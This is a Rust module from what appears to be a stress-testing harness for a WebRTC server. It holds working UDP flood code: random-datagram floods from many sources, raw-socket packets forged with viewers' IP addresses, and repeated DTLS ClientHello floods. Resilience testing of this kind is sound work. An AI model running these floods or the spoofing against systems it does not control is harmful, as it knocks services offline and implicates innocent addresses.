//! Datagrams that mean nothing, and some that look as if they did.

use std::net::{SocketAddr, SocketAddrV4};

use super::attack::Attack;
use crate::siege::attack_run::{AttackRun, Random};
use crate::siege::peer::{Peer, PeerOptions};
use crate::siege::sources::{Forger, Sources, socket};

const GARBAGE_RATE: u32 = 100_000;
const CLIENT_HELLO_RATE: u32 = 20_000;

/// Datagrams of random bytes.
pub(super) struct Garbage {
    pub(super) many: bool,
}

impl Attack for Garbage {
    fn name(&self) -> &'static str {
        if self.many { "garbage-many" } else { "garbage" }
    }

    fn about(&self) -> &'static str {
        if self.many {
            "100,000 datagrams of random bytes a second from 60,000 sources"
        } else {
            "100,000 datagrams of random bytes a second from one source"
        }
    }

    fn run(&self, run: &AttackRun) {
        run.on_threads(1, |_| {
            let mut random = Random::new(1);
            let mut bytes = [0; 200];
            if !self.many {
                let socket = socket(1)?;
                return run.paced(GARBAGE_RATE, |due| {
                    for _ in 0..due {
                        let length = random_datagram(&mut random, &mut bytes);
                        let _ = socket.send_to(bytes.get(..length).unwrap_or_default(), run.udp);
                    }
                    run.sent(due);
                    Ok(())
                });
            }
            let mut sources = Sources::many().map_err(|error| error.to_string())?;
            sources.note().into_iter().for_each(|note| run.note(note));
            let mut number = 0;
            run.paced(GARBAGE_RATE, |due| {
                for _ in 0..due {
                    let length = random_datagram(&mut random, &mut bytes);
                    number += 1;
                    sources.send(number, run.udp, bytes.get(..length).unwrap_or_default());
                }
                run.sent(due);
                Ok(())
            })
        });
    }
}

/// Fills the bytes; returns how many of them to send.
fn random_datagram(random: &mut Random, bytes: &mut [u8]) -> usize {
    random.fill(bytes);
    1 + random.below(bytes.len())
}

/// Junk that claims to come from those who watch.
pub(super) struct Spoofed;

impl Attack for Spoofed {
    fn name(&self) -> &'static str {
        "spoofed"
    }

    fn about(&self) -> &'static str {
        "20,000 datagrams a second in the viewers' own addresses: random, RTP, RTCP, DTLS (root only)"
    }

    fn run(&self, run: &AttackRun) {
        run.on_threads(1, |_| {
            let mut forger = Forger::new()
                .map_err(|error| format!("not done: raw sockets need root ({error})"))?;
            let SocketAddr::V4(to) = run.udp else { return Err("not done: IPv6".to_owned()) };
            let addresses = run.watchers.iter().filter_map(|watcher| watcher.address);
            let sources: Vec<SocketAddrV4> = addresses
                .filter_map(|address| match address {
                    SocketAddr::V4(address) => Some(address),
                    SocketAddr::V6(_) => None,
                })
                .collect();
            let mut random = Random::new(3);
            let mut bytes = [0; 200];
            run.paced(CLIENT_HELLO_RATE, |due| {
                for _ in 0..due {
                    let Some(&from) = sources.get(random.below(sources.len())) else { continue };
                    let length = random_datagram(&mut random, &mut bytes).max(20);
                    let [first, second, ..] = &mut bytes;
                    match random.below(4) {
                        0 => {}
                        1 => *first = 0x80,
                        2 => (*first, *second) = (0x80, 201),
                        _ => *first = 20 + (*first % 4),
                    }
                    let _ = forger.send(from, to, bytes.get(..length).unwrap_or_default());
                }
                run.sent(due);
                Ok(())
            })
        });
    }
}

/// The first message of DTLS handshakes, over and over.
pub(super) struct ClientHello;

impl Attack for ClientHello {
    fn name(&self) -> &'static str {
        "client-hello"
    }

    fn about(&self) -> &'static str {
        "20,000 ClientHellos a second, half from the address of a viewer of its own, half from nowhere"
    }

    fn run(&self, run: &AttackRun) {
        run.on_threads(1, |_| {
            let mut peer = Peer::connect(
                run,
                crate::siege::attack_run::attacker_ip(4),
                PeerOptions::default(),
            )?;
            let nowhere = socket(5)?;
            let mut random = Random::new(4);
            let mut sequence = 0;
            run.paced(CLIENT_HELLO_RATE, |due| {
                for index in 0..due {
                    sequence += 1;
                    let hello = client_hello(sequence, &mut random);
                    if index % 2 == 0 {
                        peer.send_raw(&hello, run.udp);
                    } else {
                        let _ = nowhere.send_to(&hello, run.udp);
                    }
                }
                run.sent(due);
                peer.work(std::time::Duration::ZERO);
                Ok(())
            })
        });
    }
}

/// DTLS 1.2 (RFC 6347), two cipher suites, the extensions that WebRTC needs.
fn client_hello(sequence: u64, random: &mut Random) -> Vec<u8> {
    let mut client_random = [0; 32];
    random.fill(&mut client_random);
    let mut body = vec![0xfe, 0xfd];
    body.extend(client_random);
    // No session, no cookie; ECDHE-ECDSA and ECDHE-RSA with AES-128-GCM; no compression.
    body.extend([0, 0, 0, 4, 0xc0, 0x2b, 0xc0, 0x2f, 1, 0]);
    let extensions: &[&[u8]] = &[
        // P-256; ECDSA with SHA-256; SRTP with AES-128-GCM; extended master secret.
        &[0, 10, 0, 4, 0, 2, 0, 23],
        &[0, 13, 0, 4, 0, 2, 4, 3],
        &[0, 14, 0, 5, 0, 2, 0, 7, 0],
        &[0, 23, 0, 0],
    ];
    let extensions = extensions.concat();
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    let [_, high, middle, low] = (body.len() as u32).to_be_bytes();
    let mut record = vec![22, 0xfe, 0xfd, 0, 0];
    record.extend(sequence.to_be_bytes().into_iter().skip(2));
    record.extend(((body.len() + 12) as u16).to_be_bytes());
    record.extend([1, high, middle, low, 0, 0, 0, 0, 0, high, middle, low]);
    record.extend(body);
    record
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_of_a_client_hello_are_right() {
        let hello = client_hello(1, &mut Random::new(1));
        assert_eq!(usize::from(u16::from_be_bytes([hello[11], hello[12]])), hello.len() - 13);
        assert_eq!(usize::from(hello[16]), hello.len() - 25);
        assert_eq!(hello[10], 1);
    }
}
